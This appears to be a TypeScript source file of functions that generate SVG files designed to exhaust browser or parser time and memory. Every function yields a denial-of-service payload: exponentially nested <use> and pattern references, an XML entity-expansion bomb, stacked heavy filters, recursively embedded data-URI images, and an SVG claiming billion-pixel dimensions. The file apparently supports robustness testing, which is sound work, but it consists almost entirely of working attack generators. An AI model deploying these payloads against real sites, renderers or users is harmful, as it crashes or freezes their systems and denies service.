/** Small drawings that take a browser long, or much memory, to draw. https://www.w3.org/TR/SVG2/ */

const svg = (body: string, attributes = 'viewBox="0 0 100 100" width="100" height="100"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${body}</svg>`;

/** `depth` groups, each of ten references to the one before: 10^depth elements. */
export function useBomb(depth: number): string {
  const level = (i: number) => `<g id="g${i}">${`<use href="#g${i - 1}"/>`.repeat(10)}</g>`;
  const levels = Array.from({ length: depth }, (_, i) => level(i + 1));
  return svg(`<defs><rect id="g0" width="9" height="9"/>${levels.join("")}</defs><use href="#g${depth}"/>`);
}

/** The same with patterns, each filled with the one before. */
export function patternBomb(depth: number): string {
  const level = (i: number) =>
    `<pattern id="p${i}" width="5" height="5" patternUnits="userSpaceOnUse">
      ${'<rect width="5" height="5" fill="FILL"/>'.repeat(10).replaceAll("FILL", `url(#p${i - 1})`)}</pattern>`;
  const levels = Array.from({ length: depth }, (_, i) => level(i + 1));
  return svg(`<defs>${levels.join("")}</defs><rect width="100" height="100" fill="url(#p${depth})"/>`);
}

/** Entities, each of ten of the one before: 10^depth letters. */
export function entityBomb(depth: number): string {
  const level = (i: number) => `<!ENTITY e${i} "${`&e${i - 1};`.repeat(10)}">`;
  const levels = Array.from({ length: depth }, (_, i) => level(i + 1));
  return `<!DOCTYPE svg [<!ENTITY e0 "ten letters">${levels.join("")}]>${svg(`<text>&e${depth};</text>`)}`;
}

/** `count` filters that each blur the whole drawing. */
export const filterBomb = (count: number): string =>
  svg(
    `<filter id="f" x="-9" y="-9" width="99" height="99">${'<feTurbulence numOctaves="99"/><feGaussianBlur stdDeviation="99"/><feMorphology operator="dilate" radius="99"/>'.repeat(count)}</filter>
    ${'<rect width="100" height="100" filter="url(#f)"/>'.repeat(count)}`,
  );

/** A drawing in a drawing, `depth` times, each showing the next ten times. */
export function imageBomb(depth: number): string {
  const address = (text: string) => `data:image/svg+xml;base64,${Buffer.from(text).toString("base64")}`;
  let inner = svg('<rect width="100" height="100"/>');
  for (let i = 0; i < depth; i++) {
    const image = `<image id="i" width="90" height="90" href="${address(inner)}"/>`;
    inner = svg(`<defs>${image}</defs>${'<use href="#i"/>'.repeat(10)}`);
  }
  return inner;
}

/** A drawing that says it is a thousand million pixels wide and high. */
export const hugeSvg = (): string => svg("<rect/>", 'width="1000000000" height="1000000000"');
